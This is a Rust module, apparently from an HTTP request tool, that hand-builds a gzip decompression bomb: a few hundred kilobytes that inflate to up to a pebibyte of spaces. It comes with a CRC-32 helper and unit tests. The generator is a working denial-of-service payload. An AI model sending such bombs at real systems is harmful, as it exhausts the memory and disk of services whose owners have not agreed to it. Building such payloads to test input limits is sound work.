//! A gzip file of a few bytes that is many mebibytes of spaces when it is unpacked.

use bytes::Bytes;

use crate::request::Filler;

/// Header of a gzip file, then a block of fixed codes: a space, and 258 spaces copied from it.
/// The bits of both come out as whole bytes, so that what follows can be repeated.
const START_LENGTH: u64 = 259;

/// Eight copies of 258 spaces are 104 bits: 13 bytes that stand for 2,064.
const PIECE_LENGTH: u64 = 8 * 258;

/// How often the 13 bytes stand in one piece of the filler.
const COPIES: u64 = 512;

/// A pebibyte: what is longer could not be counted.
const MOST_MEBIBYTES: u64 = 1 << 30;

/// The filler and the end of such a file; it has at least so many mebibytes.
pub(super) fn bomb(mebibytes: u64) -> (Filler, Bytes) {
    let wanted = mebibytes.min(MOST_MEBIBYTES) * 1024 * 1024;
    let times = wanted.div_ceil(PIECE_LENGTH * COPIES);
    let mut start = Bits::default();
    start.push(0b011, 3); // the last block, with fixed codes
    start.push_code(0x30 + u32::from(b' '), 8);
    start.push_copy();
    let mut piece = Bits::default();
    for _ in 0..8 * COPIES {
        piece.push_copy();
    }
    let mut first = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff];
    first.extend(start.bytes);

    let length = START_LENGTH.saturating_add(times.saturating_mul(PIECE_LENGTH * COPIES));
    let mut end = vec![0]; // the code that ends a block
    end.extend(checksum_of_spaces(length).to_le_bytes());
    // The length modulo 2^32.
    end.extend(&length.to_le_bytes()[..4]);
    let filler = Filler {
        first: first.into(),
        piece: piece.bytes.into(),
        times: Some(times),
    };
    (filler, end.into())
}

/// CRC-32 of so many spaces, by doubling.
fn checksum_of_spaces(mut length: u64) -> u32 {
    let mut whole = crc32fast::Hasher::new();
    let mut part = crc32fast::Hasher::new();
    part.update(b" ");
    while length > 0 {
        if length & 1 == 1 {
            whole.combine(&part);
        }
        let twice = part.clone();
        part.combine(&twice);
        length >>= 1;
    }
    whole.finalize()
}

/// Bits as deflate packs them, the lowest of a byte first.
#[derive(Debug, Default)]
struct Bits {
    bytes: Vec<u8>,
    count: usize,
}

impl Bits {
    fn push(&mut self, bits: u32, count: usize) {
        for index in 0..count {
            if self.count.is_multiple_of(8) {
                self.bytes.push(0);
            }
            if (bits >> index) & 1 == 1
                && let Some(last) = self.bytes.last_mut()
            {
                *last |= 1 << (self.count % 8);
            }
            self.count += 1;
        }
    }

    /// A Huffman code, whose highest bit comes first.
    fn push_code(&mut self, code: u32, count: usize) {
        for index in (0..count).rev() {
            self.push((code >> index) & 1, 1);
        }
    }

    /// Copies 258 bytes from one byte back: code 285, and distance code 0.
    fn push_copy(&mut self) {
        self.push_code(0b1100_0101, 8);
        self.push_code(0, 5);
    }
}

#[cfg(test)]
mod tests {
    use super::{bomb, checksum_of_spaces};

    #[test]
    fn checksums_are_those_of_spaces() {
        for length in [0_usize, 1, 2, 259, 100_000] {
            let expected = crc32fast::hash(&vec![b' '; length]);
            assert_eq!(checksum_of_spaces(u64::try_from(length).unwrap()), expected);
        }
    }

    #[test]
    fn a_bomb_is_small() {
        let (filler, end) = bomb(100);
        assert_eq!(
            (filler.first.len(), filler.piece.len(), end.len()),
            (13, 6_656, 9)
        );
        let wire = filler.times.unwrap() * 6_656;
        assert!(wire < 700_000, "{wire}");
        assert!(bomb(u64::MAX).0.times.unwrap() >= (1 << 50) / (2_064 * 512));
    }
}
